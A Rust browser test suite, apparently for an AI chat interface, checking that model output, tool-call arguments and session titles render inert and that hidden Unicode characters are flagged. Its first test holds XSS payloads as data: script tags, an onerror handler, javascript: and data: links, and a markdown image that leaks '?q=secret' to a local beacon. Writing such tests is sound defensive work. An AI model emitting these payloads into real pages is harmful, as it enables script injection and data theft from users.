//! A model's text cannot affect the page, whatever its source.

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use axum::Router;
use serde_json::json;
use tokio::net::TcpListener;

use crate::driver::WIDE;
use crate::model::Model;
use crate::page::Page;
use crate::server::Server;

/// A server that counts the requests of pages that were tricked into sending one.
async fn beacon() -> (String, Arc<AtomicUsize>) {
    let hits = Arc::new(AtomicUsize::new(0));
    let counted = Arc::clone(&hits);
    let app = Router::new().fallback(async move || {
        counted.fetch_add(1, Ordering::Relaxed);
        "hit"
    });
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    tokio::spawn(async move { axum::serve(listener, app).await });
    (url, hits)
}

#[tokio::test]
#[ignore = "needs a browser: crates/browser/tests/run.sh"]
async fn scripts_links_and_images_in_model_output_are_inert() {
    let (beacon, hits) = beacon().await;
    let model = Model::start().await;
    let server = Server::start(&model).await;
    let page = Page::open(&server, "s", WIDE).await;
    page.run("window.alert = window.confirm = () => { window.touched = true }").await;
    let words = [
        "<script>window.touched = true</script>".to_owned(),
        "<img src=x onerror=\"window.touched = true\">".to_owned(),
        format!("<iframe src=\"{beacon}/frame\"></iframe><link rel=stylesheet href={beacon}/css>"),
        format!("![a picture]({beacon}/image?q=secret)"),
        format!("![]({beacon}/bare.png) [![]({beacon}/nested.png)]({beacon}/link)"),
        "[one](javascript:window.touched=true) [two](JaVaScRiPt:window.touched=true)".to_owned(),
        "[three](data:text/html,<script>parent.touched=true</script>) [four](vbscript:x)".to_owned(),
        "[five](java\tscript:window.touched=true) [six](//example.org/x) [seven](/stop)".to_owned(),
        "[good](https://example.org/a) <https://example.org/b> [mail](mailto:a@example.org)".to_owned(),
        "<style>body { display: none }</style><form action=/sessions/s/stop><button>x</button></form>".to_owned(),
        "```<script>\nwindow.touched = true\n```".to_owned(),
    ]
    .join("\n\n");
    page.ask("Say it").await;
    let asked = model.asked().await;
    asked.say("Look:\n\n");
    // One letter at a time, so that every state of the parser is reached.
    for letter in words.chars() {
        asked.say(&letter.to_string());
    }
    // The same in a call and in its result.
    let query = json!({ "query": "<img src=x onerror=touched=1>", "path": "." });
    asked.end_with_call("c1", "search_text", &query);
    model.answer(&words).await;
    page.wait_until_idle().await;
    page.wait_for_words("Done · 2 requests").await;
    page.run("document.querySelectorAll('details').forEach((node) => { node.open = true })").await;
    for round in 0..2 {
        let selector = "#column :is(script, img, iframe, link, style, form, object, embed, svg)";
        assert_eq!(page.texts(selector).await, [""; 0], "round {round}");
        let links = "return [...document.querySelectorAll('#column a[href]')].map((a) => a.href)";
        let links = page.run(links).await;
        let allowed = |link: &str| {
            link.starts_with("https://example.org/")
                || link.starts_with("mailto:")
                || link.starts_with(&beacon)
        };
        let links: Vec<&str> =
            links.as_array().unwrap().iter().map(|link| link.as_str().unwrap()).collect();
        assert!(links.len() >= 4 && links.iter().all(|link| allowed(link)), "{links:?}");
        let handlers = "return [...document.querySelectorAll('#column *')].flatMap((node) => \
             [...node.attributes].map((it) => it.name)).filter((name) => name.startsWith('on')).length";
        assert_eq!(page.run(handlers).await, 0);
        // Clicks on text that is not a link lead nowhere.
        page.run("document.querySelectorAll('#column .no-link').forEach((node) => node.click())")
            .await;
        assert_eq!(page.run("return window.touched === undefined").await, true);
        assert_eq!(hits.load(Ordering::Relaxed), 0);
        // Once more, loaded from the store.
        page.client.refresh().await.unwrap();
        page.wait_for_words("Look:").await;
        page.wait("document.querySelectorAll('#history .answer').length === 2").await;
    }
    assert_eq!(server.get("/sessions").await["sessions"][0]["entries"], 5);
    page.close().await;
}

#[tokio::test]
#[ignore = "needs a browser: crates/browser/tests/run.sh"]
async fn a_url_without_a_session_opens_a_new_one() {
    let model = Model::start().await;
    let server = Server::start(&model).await;
    let page = Page::open(&server, "%E0%A4%A", WIDE).await;
    for address in ["a/b", "<b>", "..%2Fhealth"] {
        page.run(&format!("location.hash = {}", serde_json::Value::from(address))).await;
        page.wait("/^#[0-9a-f]{32}$/.test(location.hash)").await;
    }
    page.ask("Hi").await;
    model.answer("Hello.").await;
    page.wait_for_words("Hello.").await;
    page.close().await;
}

#[tokio::test]
#[ignore = "needs a browser: crates/browser/tests/run.sh"]
async fn the_title_of_a_session_is_not_interpreted_as_html() {
    let model = Model::start().await;
    let server = Server::start(&model).await;
    let page = Page::open(&server, "s", WIDE).await;
    page.ask("<b onclick=alert(1)>hi</b>").await;
    model.answer("Hello.").await;
    page.wait_for_words("Hello.").await;
    page.wait("document.querySelector('#sessions .title')").await;
    page.wait("document.getElementById('title').textContent.startsWith('<b')").await;
    assert_eq!(page.texts("#sessions .title").await, ["<b onclick=alert(1)>hi</b>"]);
    assert_eq!(page.texts("#sessions b, #title b, .user b").await, [""; 0]);
    page.close().await;
}

#[tokio::test]
#[ignore = "needs a browser: crates/browser/tests/run.sh"]
async fn hidden_characters_have_marks_wherever_text_of_a_model_is_shown() {
    let model = Model::start().await;
    let server = Server::start(&model).await;
    let page = Page::open(&server, "s", WIDE).await;
    let marks = async |selector: &str| page.texts(&format!("{selector} .mark")).await;
    page.ask("Say it").await;
    let asked = model.asked().await;
    // An answer, one character at a time. Its emoji and spaces are text like any other.
    for letter in "**a\u{202e}b** `c\u{3164}` d\u{200b} ❤\u{fe0f} 1\u{a0}000\n".chars() {
        asked.say(&letter.to_string());
    }
    // A tool that does not exist, and one that starts a sub-agent.
    asked.call("c1", "no\u{2800}tool", &json!({ "k\u{115f}": "v\u{1160}" }));
    asked.end_with_calls();
    let answer = [["U+202E", "U+3164", "U+200B"].as_slice()].concat();
    page.wait("document.querySelector('.card[data-state=failed]')").await;
    assert_eq!(marks(".answer").await, answer);
    assert_eq!(marks(".card > summary").await, ["U+2800"]);
    assert_eq!(marks(".card .arguments").await, ["U+115F", "U+1160"]);
    assert!(marks(".card .output").await.contains(&"U+2800".to_owned()));
    let research = json!({ "prompt": "x\u{202e}y" });
    model.asked().await.end_with_call("c2", "research", &research);
    // The sub-agent's own call.
    let own = json!({ "query": "q\u{ffa0}", "path": "." });
    model.asked().await.end_with_call("c3", "search_text", &own);
    model.answer("found\u{2060}").await;
    // A call that is denied.
    let write = json!({ "path": "a.txt", "text": "t\u{e0041}" });
    model.asked().await.end_with_call("c4", "write_file", &write);
    page.click(".deny").await;
    model.answer("Done\u{feff}.").await;
    page.wait_until_idle().await;
    page.wait("document.querySelector('#live .end:not(.bad)')").await;
    assert_eq!(marks(".nested .user").await, ["U+202E"]);
    assert_eq!(marks(".nested .card .arguments").await, ["U+FFA0"]);
    assert_eq!(marks(".nested > .turn > .answer").await, ["U+2060"]);
    let denied = "return [...document.querySelectorAll('.card')].find((it) => \
         it.querySelector('.tool').textContent === 'write_file').querySelector('.arguments .mark').textContent";
    assert_eq!(page.run(denied).await, "U+E0041");
    assert_eq!(marks("#spoken").await, ["U+FEFF"]);
    // The same, loaded from the store.
    page.client.refresh().await.unwrap();
    page.wait_for_words("Done").await;
    page.wait("document.querySelectorAll('#history .answer').length >= 2").await;
    assert_eq!(marks("#history > div > .answer").await[..3], answer);
    assert_eq!(page.run(denied).await, "U+E0041");
    page.click("#show-trace").await;
    page.wait("document.getElementById('trace').open").await;
    assert!(marks("#trace-runs summary").await.contains(&"U+2800".to_owned()));
    page.close().await;
}
